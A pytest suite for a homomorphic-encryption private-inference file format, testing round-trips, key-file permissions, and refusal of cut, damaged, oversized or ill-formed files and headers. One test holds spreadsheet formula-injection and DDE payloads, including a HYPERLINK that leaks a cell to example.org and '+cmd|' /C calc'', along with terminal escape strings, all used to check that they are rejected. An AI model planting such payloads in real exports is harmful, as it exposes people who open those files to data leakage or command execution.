"""The files of private inference: what is written is read, and nothing else is."""

import hashlib
import json
import os
import stat
import struct
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from wardround.decoding import PlanError
from wardround.errors import LocalError, RemoteError
from wardround.orders import Statistics
from wardround.plan_sections import Column, ColumnType, Standardize, Target
from wardround.strategies.he.inference_file import (
    MAX_ROWS,
    AnswerHead,
    ContextHead,
    KeyHead,
    ModelInfo,
    QueryHead,
    join_parts,
    parameters_of,
    read_file,
    split_parts,
    write_file,
)
from wardround.strategies.he.inference_plan import CANDIDATES, LINEAR

QUERY = QueryHead(key_id="k" * 64, model="m" * 64, encoding="e" * 64, rows=3, first_row=2, inputs=2)
INFO = ModelInfo(
    name="hearts",
    model="m" * 64,
    plan="p" * 64,
    columns=(Column(name="pressure", unit="mmHg", range=(30.0, 250.0)),),
    target=Target(name="ill", classes=("no", "perhaps", "yes")),
    standardize=Standardize.FEDERATED,
    statistics=Statistics(mean=(120.0,), std=(20.0,)),
    squares=0,
    parameters=str(LINEAR),
    error=1e-6,
    output=12.5,
)
HEADS = (
    INFO,
    KeyHead(key_id="k" * 64, parameters=str(LINEAR)),
    ContextHead(nonce="0" * 32, parameters=str(LINEAR)),
    QUERY,
    AnswerHead(key_id="k" * 64, model="m" * 64, query="q" * 64, rows=3, outputs=2),
)


REST = b'"kind": "query", "key_id": "k", "model": "m", "encoding": "e", "first_row": 2, "inputs": 2'


def framed(header: bytes, payload: bytes = b"") -> bytes:
    digest = hashlib.sha256(header + payload).digest()
    return b"wardround inference 1\n" + struct.pack("<IQ32s", len(header), len(payload), digest) + header + payload


def test_what_is_written_is_read(tmp_path: Path) -> None:
    for head in HEADS:
        path = tmp_path / type(head).__name__
        written = write_file(path, head, b"payload")
        found, payload, digest = read_file(path, type(head))
        assert (found, payload) == (head, b"payload")
        assert digest == written == hashlib.sha256(path.read_bytes()[66:]).hexdigest()
    assert sorted(path.name for path in tmp_path.iterdir()) == sorted(type(head).__name__ for head in HEADS)
    assert (INFO.inputs, INFO.outputs) == (1, 2)


def test_the_file_is_as_its_docstring_says(tmp_path: Path) -> None:
    write_file(tmp_path / "q", QUERY, b"abc")
    data = (tmp_path / "q").read_bytes()
    length, size = struct.unpack_from("<IQ", data, 22)
    header = json.loads(data[66 : 66 + length])
    assert header == {
        "kind": "query", "key_id": "k" * 64, "model": "m" * 64, "encoding": "e" * 64, "rows": 3, "first_row": 2,
        "inputs": 2,
    }  # fmt: skip
    assert size == 3 and data == framed(data[66 : 66 + length], b"abc")


def test_a_key_is_for_its_owner_alone(tmp_path: Path) -> None:
    before = os.umask(0)
    try:
        for head in HEADS:
            write_file(tmp_path / type(head).__name__, head)
    finally:
        os.umask(before)
    modes = {path.name: stat.S_IMODE(path.stat().st_mode) for path in tmp_path.iterdir()}
    assert modes.pop("KeyHead") == 0o600
    assert set(modes.values()) == {0o666}


def test_nothing_is_replaced_and_nothing_half_written(tmp_path: Path) -> None:
    (tmp_path / "q").write_text("mine")
    with pytest.raises(LocalError, match="q: is there already"):
        write_file(tmp_path / "q", QUERY)
    assert (tmp_path / "q").read_text() == "mine"
    with pytest.raises(LocalError, match=r"q: cannot be written \(No such file"):
        write_file(tmp_path / "none" / "q", QUERY)
    with pytest.raises(LocalError, match=r"q: cannot be written \(Not a directory"):
        write_file(tmp_path / "q" / "q", QUERY)
    with pytest.raises(LocalError, match=r"cannot be written \(File name too long"):
        write_file(tmp_path / ("q" * 252), QUERY)
    assert [path.name for path in tmp_path.iterdir()] == ["q"]


@pytest.mark.parametrize(
    ("change", "words"),
    [
        (lambda data: b"", "expected a file of private inference .query., got something else"),
        (lambda data: b"PK" + data, "got something else"),
        (lambda data: data[:40], "expected at least 66 bytes, got 40; the file was cut"),
        (lambda data: data[:-1], "the file was cut or added to"),
        (lambda data: data + b"x", "the file was cut or added to"),
        (lambda data: data[:-1] + b"x", "the file was damaged"),
        (lambda data: data.replace(b'"rows":3', b'"rows":4'), "the file was damaged"),
        (lambda data: data[:22] + b"\xff" * 4 + data[26:], "the file was cut or added to"),
    ],
)
def test_cut_damaged_and_foreign_files_are_refused(
    tmp_path: Path, change: Callable[[bytes], bytes], words: str
) -> None:
    write_file(tmp_path / "q", QUERY, b"abc")
    (tmp_path / "bad").write_bytes(change((tmp_path / "q").read_bytes()))
    with pytest.raises(RemoteError, match=f"bad: .*{words}"):
        read_file(tmp_path / "bad", QueryHead)


@pytest.mark.parametrize(
    ("header", "words"),
    [
        (b"[]", "expected a header"),
        (b"{", "expected a header"),
        (b"\xff", "expected a header"),
        (b'{"kind": "answer"}', "expected a file of the kind query, got one of answer"),
        (b'{"kind": "query"}', "reads .key_id: expected a value"),
        (b'{%b, "rows": 0}' % REST, "at least 1"),
        (b'{%b, "rows": 65537}' % REST, "at most"),
        (b'{%b, "rows": 1.5}' % REST, "rows"),
        (b'{%b, "rows": 1, "x": 1}' % REST, "x"),
        (b"[" * 100_000, "expected a header"),
    ],
)
def test_headers_that_say_something_else_are_refused(tmp_path: Path, header: bytes, words: str) -> None:
    (tmp_path / "bad").write_bytes(framed(header))
    with pytest.raises(RemoteError, match=f"bad: .*{words}"):
        read_file(tmp_path / "bad", QueryHead)


def test_a_key_in_the_owners_hands_is_reported(tmp_path: Path) -> None:
    write_file(tmp_path / "k", KeyHead(key_id="k", parameters=str(LINEAR)), b"secret")
    words = r"k: .*got the file of a secret key; it is not used.*destroy"
    with pytest.raises(RemoteError, match=words):
        read_file(tmp_path / "k", ContextHead)
    with pytest.raises(RemoteError, match=words):
        read_file(tmp_path / "k", QueryHead)


def test_only_parameters_of_the_planner_are_known(tmp_path: Path) -> None:
    assert [parameters_of(str(one)) for one in CANDIDATES] == list(CANDIDATES)
    (tmp_path / "c").write_bytes(framed(b'{"kind": "context", "nonce": "0", "parameters": "4096 [40, 20, 40]"}'))
    with pytest.raises(RemoteError, match=r"c: .*parameters: expected one of 4096 \[45, 44, 17\]"):
        read_file(tmp_path / "c", ContextHead)


def test_a_file_that_cannot_be_read(tmp_path: Path) -> None:
    with pytest.raises(LocalError, match=r"none: cannot be read \(No such file"):
        read_file(tmp_path / "none", QueryHead)


@given(st.lists(st.binary(max_size=20), max_size=5))
def test_parts_are_as_they_were(parts: list[bytes]) -> None:
    assert split_parts(join_parts(parts), len(parts), "q") == parts


@pytest.mark.parametrize("change", [b"x", b"\x05\x00\x00\x00abc", b"\xff\xff\xff\xff"])
def test_other_parts_are_refused(change: bytes) -> None:
    whole = join_parts([b"one", b"two"])
    for data, count in ((whole, 1), (whole, 3), (whole[:-1], 2), (whole + change, 2), (whole + change, 3)):
        with pytest.raises(RemoteError, match=f"q: expected {count} ciphertexts and nothing else"):
            split_parts(data, count, "q")


def test_the_most_rows_fit_a_query() -> None:
    assert QueryHead(key_id="k", model="m", encoding="e", rows=MAX_ROWS, first_row=0, inputs=1).rows == 65536


@pytest.mark.parametrize(
    ("kind", "most"),
    [(ModelInfo, 0), (KeyHead, 1 << 20), (ContextHead, 1 << 22), (QueryHead, 5000), (AnswerHead, 5000)],
)
def test_files_that_are_too_large_are_not_read(tmp_path: Path, kind: type[QueryHead], most: int) -> None:
    """A file of 8 GiB costs its sender nothing (it has holes), and its reader the memory."""
    most += 66 + (1 << 21)
    with (tmp_path / "large").open("wb") as file:
        file.truncate(most + 1)
    with pytest.raises(RemoteError, match=f"large: expected at most {most} bytes, got {most + 1}"):
        read_file(tmp_path / "large", kind, 5000 if kind in (QueryHead, AnswerHead) else 1 << 33)
    os.truncate(tmp_path / "large", most)
    with pytest.raises(RemoteError, match="large: expected a file of private inference"):
        read_file(tmp_path / "large", kind, 5000 if kind in (QueryHead, AnswerHead) else 1 << 33)


WIDE = Column(name="wide", type=ColumnType.CATEGORY, categories=tuple(map(str, range(1 << 14))))


@pytest.mark.parametrize(
    ("change", "words"),
    [
        ({"squares": 2}, "squares: expected at most 1"),
        ({"error": 0.002}, "error: expected at most 0.001"),
        ({"columns": ()}, "columns: expected 1 to 16384 inputs, got 0"),
        ({"columns": (*INFO.columns, WIDE)}, "columns: expected 1 to 16384 inputs, got 16385"),
        ({"columns": (Column(name="x"),)}, r"columns\[0\].range: expected a range for every number"),
        (
            {"columns": (Column(name="x", range=(0.0, 1.0), unit="\x1b[2J"),)},
            r"columns\[0\].unit: expected text without",
        ),
        ({"target": Target(name="x", range=(-1e308, 1e308))}, "target.range: expected a width"),
        ({"target": Target(name="x", range=(0.0, 1e-300))}, "target.range: expected a width"),
    ],
)
def test_a_models_facts_that_could_harm_the_asker_are_refused(change: dict[str, object], words: str) -> None:
    with pytest.raises(PlanError, match=words):
        replace(INFO, **change)  # type: ignore[arg-type]


@pytest.mark.parametrize(
    "label",
    ['=HYPERLINK("http://example.org/?"&B2)', "@SUM(A1)", "+cmd|' /C calc'!A0", "-1+f(2)", "a\x1b[2J", "a\u202eb"],
)
def test_no_class_is_a_formula_or_controls_a_terminal(label: str) -> None:
    for target in (Target(name="ill", classes=("no", label)), Target(name=label, classes=("no", "yes"))):
        with pytest.raises(PlanError, match="target: expected text without control characters that no spreadsheet"):
            replace(INFO, target=target)


@pytest.mark.parametrize("label", ["+", "-", "+1", "-1", "<= 5", "né à l'hôpital", "(a|b)!"])
def test_usual_classes_are_taken(label: str) -> None:
    assert replace(INFO, target=Target(name="ill", classes=("no", label))).outputs == 1


def test_an_encoding_is_all_that_rows_and_answers_depend_on(tmp_path: Path) -> None:
    write_file(tmp_path / "info", INFO)
    assert read_file(tmp_path / "info", ModelInfo)[0].encoding == INFO.encoding
    changes: tuple[dict[str, object], ...] = (
        {"columns": (replace(INFO.columns[0], range=(30.0, 251.0)),)},
        {"target": replace(INFO.target, classes=("yes", "perhaps", "no"))},
        {"standardize": Standardize.RANGE},
        {"statistics": Statistics(mean=(120.0,), std=(20.000001,))},
    )
    others = [replace(INFO, **change).encoding for change in changes]  # type: ignore[arg-type]
    assert len({INFO.encoding, *others}) == 5
    assert replace(INFO, error=2e-6, output=13.0, name="other").encoding == INFO.encoding
